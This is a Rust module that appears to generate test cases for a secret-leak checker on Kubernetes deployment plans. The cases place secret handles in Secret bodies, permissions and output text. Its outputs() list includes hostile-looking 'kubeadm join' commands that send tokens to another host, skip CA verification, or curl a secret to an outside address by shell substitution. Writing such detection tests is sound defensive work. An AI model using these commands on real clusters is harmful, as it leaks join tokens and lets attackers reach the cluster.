//! What the phase of the walk says: one song is what it says in one run, in one field or in several that do not mask each other.

use super::fields::{FIELDS, Taken};
use std::collections::BTreeSet;

/// What a phase says in its fields at once.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Song {
    /// What it is called in the report of a leak.
    pub(super) name: String,
    /// Fields and texts, with the place-holders of `fields.rs`. `{same}` is one name for all fields of the song, `{trap}` an address where
    /// nobody is expected, and `{elsewhere}` one that is a name. `{given}`, `{drawn}`, `{seen}`, `{opaque}` and `{certificate}` are
    /// ids of handles, and with a `!` a part of an output.
    pub(super) fields: Vec<(String, String)>,
}

impl Song {
    /// Whether it is one of which many fields are taken: what becomes of those depends on the format.
    pub(super) fn is_taken(&self) -> bool {
        ["at once", "output with given"].iter().any(|part| self.name.contains(part))
    }
}

fn song(name: impl Into<String>, fields: &[(&str, &str)]) -> Song {
    let fields = fields.iter().map(|(field, text)| ((*field).to_owned(), (*text).to_owned())).collect();
    Song { name: name.into(), fields }
}

/// All of them.
pub(super) fn all() -> Vec<Song> {
    let together = |told: &dyn Fn(&'static str) -> Option<&'static str>| -> Vec<(&str, &str)> {
        let fields = FIELDS.iter().filter_map(|(field, taken)| match taken {
            Taken::Together(text) => Some((*field, told(text)?)),
            Taken::Alone(_) => None,
        });
        fields.collect()
    };
    let alone = FIELDS.iter().filter_map(|(field, taken)| match taken {
        Taken::Alone(text) => Some(song(format!("a name in {field}"), &[(field, text)])),
        Taken::Together(_) => None,
    });
    let ids = "{given} {drawn} {seen} {opaque} {certificate}";
    let is_talk = |text: &'static str| text.contains("https://{word}@").then_some(ids);
    // The policy tells all of a plan at once that it refuses, and the record is the unit in which the others are read.
    let record = |field: &'static str| field.rsplit_once('.').map_or(field, |(record, _)| record);
    let records: BTreeSet<&str> = FIELDS.iter().map(|(field, _)| record(field)).collect();
    let handles = records.into_iter().map(|of| {
        let fields = FIELDS.iter().filter(|(field, _)| record(field) == of).map(|(field, _)| {
            let is_body = of == "plan.operations.action";
            (*field, if is_body { r#"{"data": {"walk": {"$secret": "{seen}"}}}"# } else { r#"{"$secret": "{seen}"}"# })
        });
        song(format!("handles in {of}"), &fields.collect::<Vec<_>>())
    });
    [song("names in all fields at once", &together(&Some)), song("ids of handles in all texts at once", &together(&is_talk))]
        .into_iter()
        .chain(alone)
        .chain(handles)
        .chain(declared())
        .chain(misplaced())
        .chain(outputs())
        .collect()
}

/// A kind, a namespace and a key that were made up, declared by the phase, granted, and used.
fn declared() -> Vec<Song> {
    let permission = "description.tasks.permissions";
    let parts =
        [("of.group", "{same}.example.invalid"), ("of.version", "v1{same}"), ("of.plural", "{same}"), ("of.kind", "{same}")];
    let parts = parts.into_iter().chain([("namespace", "{same}")]);
    let used = parts.flat_map(|(part, text)| {
        ["needs.reads.one", "needs.reads.many", "plan.operations.target"].map(|user| {
            let fields = [(format!("{permission}.{part}"), text.to_owned()), (format!("{user}.{part}"), text.to_owned())];
            Song { name: format!("a declared name in {user}.{part}"), fields: fields.to_vec() }
        })
    });
    used.collect()
}

/// Handles where a body may not have them: each in the body that is sent when the object is new, and in the one when it is there.
fn misplaced() -> Vec<Song> {
    let bodies = [
        ("a revealed key", r#"@secret {"stringData": {"description": {"$secret": "{seen}"}}}"#),
        ("another key", r#"@secret {"stringData": {"walk": {"$secret": "{seen}"}}}"#),
        ("another type", r#"@secret {"type": "Opaque"}"#),
        ("a Secret of another type", r#"@secret {"stringData": {"token-secret": {"$secret": "{opaque}"}}}"#),
        ("an annotation", r#"@secret {"metadata": {"annotations": {"walk": {"$secret": "{given}"}}}}"#),
        ("a longer value", r#"@secret {"stringData": {"token-secret": {"$secret": "{given}", "walk": "x"}}}"#),
    ];
    let bodies = bodies.into_iter().map(|(place, text)| {
        song(
            format!("a handle under {place}"),
            &[("plan.operations.action.create", text), ("plan.operations.action.merge-patch", text)],
        )
    });
    bodies.collect()
}

/// Lines with secrets, and lines that read as `kubeadm join`.
fn outputs() -> Vec<Song> {
    let text = "plan.outputs.value.text";
    let shown = ["given", "drawn", "seen", "opaque", "certificate"];
    let shown = shown.map(|secret| song(format!("an output with {secret}"), &[(text, &format!("{{!{secret}}}"))]));
    let usual = "--token {id}.{!given} --discovery-token-ca-cert-hash {pin}";
    let joins = [
        ("to another host", "kubeadm join {elsewhere}:6443 ", usual),
        ("to another address", "kubeadm join {trap}:6443 ", usual),
        ("to a host of the secret", "kubeadm join {!given}.{elsewhere}:6443 ", usual),
        ("to a host of a drawn secret", "kubeadm join {!drawn}.{elsewhere}:6443 ", usual),
        ("to a host of the certificate key", "kubeadm join {!certificate}.{elsewhere}:6443 ", usual),
        ("with a user", "kubeadm join {!given}@{elsewhere}:6443 ", usual),
        ("by a URL", "kubeadm join https://{elsewhere}:6443/{!given} ", usual),
        ("to two hosts", "kubeadm join {endpoint} {elsewhere}:6443 ", usual),
        ("with a file elsewhere", "kubeadm join {endpoint} --discovery-file https://{elsewhere}/{!given} ", usual),
        ("with the secret as an id", "kubeadm join {endpoint} --node-name {!given} --token {!given}.{!given}", ""),
        ("with a drawn secret", "kubeadm join {endpoint} --token {id}.{!drawn}", ""),
        ("with a shell", "kubeadm join {endpoint} $(curl https://{elsewhere}/{!given}) ", usual),
        ("with no pin", "kubeadm join {elsewhere}:6443 --discovery-token-unsafe-skip-ca-verification --token {id}.{!given}", ""),
    ];
    let joins = joins.map(|(how, start, rest)| {
        song(format!("a join command {how}"), &[("plan.outputs.name", "join-command"), (text, &format!("{start}{rest}"))])
    });
    shown.into_iter().chain(joins).collect()
}
